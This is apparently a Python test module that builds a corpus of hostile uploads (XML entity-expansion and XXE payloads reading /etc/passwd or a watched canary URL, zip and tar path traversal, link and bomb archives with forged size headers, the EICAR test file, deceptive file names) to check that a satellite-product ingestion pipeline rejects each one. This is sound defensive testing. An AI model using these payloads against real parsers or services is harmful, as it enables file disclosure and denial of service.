"""The hostile corpus sent through the running pipeline: each case is what a producer (or
an attacker posing as one) PUTs into the inbox, the name its rejection row must carry and
the reason code it must end with. Archives come from tests/core/hostile.py; the XML
attacks are planted in otherwise genuine orbit files and SAFE manifests
(devstack.demo_products), so that only the attack can be what refuses them.

Every case has a product name of its own (validity dates differ), so that no two cases
can be taken for the same product.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from devstack import demo_products
from tests.core import hostile

MAX_KEY_BYTES = 1024  # S3's limit on an object key

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
              for i in range(1, 10))
    + "]>")


@dataclass(frozen=True)
class Case:
    label: str
    objects: dict[str, bytes]  # inbox key -> bytes (a SAFE folder is several objects)
    name: str  # the `rejections.name` it must end under
    reason: str


def _orbit(index: int, file_type: str | None = None) -> tuple[str, bytes]:
    start = datetime(2019, 3, 1, tzinfo=UTC) + timedelta(days=index)
    return demo_products.orbit_eof("A", "AUX_RESORB", start, start + timedelta(hours=3),
                                   start + timedelta(hours=4), max_vectors=3,
                                   file_type=file_type)


def _safe(index: int) -> tuple[str, dict[str, bytes]]:
    validity = datetime(2019, 5, 1, tzinfo=UTC) + timedelta(days=index)
    return demo_products.aux_safe("A", "AUX_CAL", validity, validity - timedelta(days=2),
                                  payload_bytes=2_000, seed=index)


def _with_doctype(xml: bytes, doctype: str, use: str | None = None) -> bytes:
    """`xml` with `doctype` after its declaration; `use` (an entity reference) replaces the
    first text of a description element, where a parser would expand it."""
    head, sep, rest = xml.partition(b"?>")
    out = head + sep + b"\n" + doctype.encode() + rest
    if use:
        out = out.replace(b"<File_Description>", f"<File_Description>{use}".encode(), 1)
        out = out.replace(b"<ns1:familyName>", f"<ns1:familyName>{use}".encode(), 1)
    return out


def _lying_safe_zip(folder: str, files: dict[str, bytes]) -> bytes:
    """A genuine SAFE zip, except that its data file is 16 MiB of zeros whose zip headers
    (central and local) declare the manifest's size: only reading it can tell. The data
    member is written last, which is the entry the patch below rewrites."""
    data_path = next(path for path in files if path.startswith("data/"))
    declared = len(files[data_path])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(files, key=lambda p: p == data_path):
            archive.writestr(f"{folder}/{path}", bytes(16 * 1024 * 1024) if path == data_path
                             else files[path])
    data = bytearray(buffer.getvalue())
    central = hostile._central_entries(bytes(data))[-1]
    struct.pack_into("<I", data, central + 24, declared)
    struct.pack_into("<I", data, hostile._local_offset(bytes(data), central) + 22, declared)
    return bytes(data)


def _archive(builder: Callable[..., Path], tmp: Path, suffix: str, **kwargs: object) -> bytes:
    path = tmp / f"{builder.__name__}{len(list(tmp.iterdir()))}{suffix}"
    return builder(path, **kwargs).read_bytes()


def build(tmp: Path, canary_url: str) -> list[Case]:
    """The corpus. `canary_url` is an HTTP address the test watches: an external entity
    points there, and nothing may ever fetch it."""
    cases: list[Case] = []
    safe_index = iter(range(100))

    def safe_archive(label: str, body: bytes, reason: str, suffix: str = ".zip") -> None:
        name = _safe(next(safe_index))[0] + suffix
        cases.append(Case(label, {name: body}, name, reason))

    # Paths that escape, links, bombs: inside archives named as SAFE products.
    safe_archive("path traversal (zip)", _archive(hostile.zip_slip, tmp, ".zip"),
                 "archive_unsafe")
    safe_archive("path traversal (tar)", _archive(hostile.tar_slip, tmp, ".tgz"),
                 "archive_unsafe", ".tgz")
    safe_archive("absolute path (zip)", _archive(hostile.zip_absolute, tmp, ".zip"),
                 "archive_unsafe")
    safe_archive("absolute path (tar)", _archive(hostile.tar_slip, tmp, ".tgz",
                                                 name="/etc/passwd"), "archive_unsafe",
                 ".tgz")
    safe_archive("symbolic link (zip)", _archive(hostile.zip_symlink, tmp, ".zip"),
                 "archive_unsafe")
    safe_archive("symbolic link (tar)", _archive(hostile.tar_symlink, tmp, ".tgz"),
                 "archive_unsafe", ".tgz")
    safe_archive("hard link (tar)", _archive(hostile.tar_hardlink, tmp, ".tgz"),
                 "archive_unsafe", ".tgz")
    safe_archive("zip bomb", _archive(hostile.zip_bomb, tmp, ".zip", mib=64), "archive_unsafe")
    safe_archive("tar bomb", _archive(hostile.tar_bomb, tmp, ".tgz", mib=64),
                 "archive_unsafe", ".tgz")
    folder, files = _safe(next(safe_index))
    cases.append(Case("zip bomb with lying sizes",
                      {folder + ".zip": _lying_safe_zip(folder, files)}, folder + ".zip",
                      "archive_unsafe"))
    safe_archive("overlapping zip members", _archive(hostile.zip_overlapping, tmp, ".zip"),
                 "archive_unsafe")

    # XML entity attacks, in an orbit file and in SAFE manifests (zipped and as a folder).
    name, body = _orbit(0)
    cases.append(Case("entity expansion (EOF)", {name: _with_doctype(body, BILLION_LAUGHS,
                                                                     "&lol9;")},
                      name, "metadata_invalid"))
    name, body = _orbit(1)
    doctype = '<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    cases.append(Case("external entity, file (EOF)", {name: _with_doctype(body, doctype,
                                                                          "&xxe;")},
                      name, "metadata_invalid"))
    name, body = _orbit(2)
    doctype = f'<!DOCTYPE e [<!ENTITY % remote SYSTEM "{canary_url}/eof.dtd"> %remote;]>'
    cases.append(Case("external entity, network (EOF)", {name: _with_doctype(body, doctype)},
                      name, "metadata_invalid"))
    folder, files = _safe(next(safe_index))
    files["manifest.safe"] = _with_doctype(files["manifest.safe"], BILLION_LAUGHS, "&lol9;")
    cases.append(Case("entity expansion (SAFE manifest, zipped)",
                      {folder + ".zip": demo_products.zip_folder(folder, files)},
                      folder + ".zip", "metadata_invalid"))
    folder, files = _safe(next(safe_index))
    doctype = (f'<!DOCTYPE e [<!ENTITY xxe SYSTEM "{canary_url}/manifest">'
               '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>')
    files["manifest.safe"] = _with_doctype(files["manifest.safe"], doctype, "&xxe;&passwd;")
    cases.append(Case("external entity (SAFE manifest, folder)",
                      {f"{folder}/{path}": data for path, data in files.items()},
                      folder, "metadata_invalid"))

    # Empty and truncated.
    name, _ = _orbit(3)
    cases.append(Case("empty EOF", {name: b""}, name, "empty"))
    safe_archive("empty SAFE zip", b"", "empty")
    name, body = _orbit(4)
    cases.append(Case("truncated EOF (in its header)", {name: body[:300]}, name,
                      "metadata_invalid"))
    safe_archive("truncated SAFE zip", _archive(hostile.truncated_zip, tmp, ".zip"),
                 "archive_corrupt")

    # Names that lie about the content.
    name, _ = _orbit(5)
    cases.append(Case("EOF name, zip content", {name: _archive(hostile.safe_zip, tmp, ".zip")},
                      name, "metadata_invalid"))
    safe_archive("zip name, XML content", _archive(hostile.not_an_archive, tmp, ".zip"),
                 "archive_corrupt")
    name, body = _orbit(6, file_type="AUX_POEORB")
    cases.append(Case("EOF header of another type", {name: body}, name, "content_mismatch"))
    folder, files = _safe(next(safe_index))
    other = _safe(next(safe_index))[0]
    cases.append(Case("SAFE zip holding another product",
                      {other + ".zip": demo_products.zip_folder(folder, files)},
                      other + ".zip", "content_mismatch"))

    # Viruses (the EICAR test file), bare and zipped inside a SAFE.
    name, _ = _orbit(7)
    cases.append(Case("EICAR as an EOF", {name: hostile.eicar_bytes()}, name, "virus_found"))
    folder, files = _safe(next(safe_index))
    files["data/readme.txt"] = hostile.eicar_bytes()
    cases.append(Case("EICAR inside a SAFE zip",
                      {folder + ".zip": demo_products.zip_folder(folder, files)},
                      folder + ".zip", "virus_found"))

    # Names: as long as S3 allows, not ASCII, with characters that URL-encoding mangles.
    stem = "S1A_OPER_AUX_RESORB_"
    long_name = stem + "X" * (MAX_KEY_BYTES - len(stem) - len(".EOF")) + ".EOF"
    assert len(long_name.encode()) == MAX_KEY_BYTES
    cases.append(Case("name of 1024 bytes", {long_name: b"<x/>"}, long_name, "name_invalid"))
    for label, name in [
        ("non-ASCII name", "S1A_OPER_AUX_RESORB_ÖPOD_20190301T040000_V20190301T000000_"
                           "20190301T030000.EOF"),
        ("emoji and right-to-left name", "S1A_\u202e\U0001f6f0\ufe0f_AUX_RESORB.EOF"),
        ("name with '+', space and '%'", "S1A OPER+AUX_RESORB%20OPOD%2F..%2F.EOF"),
    ]:
        cases.append(Case(label, {name: b"<x/>"}, name, "name_invalid"))
    return cases
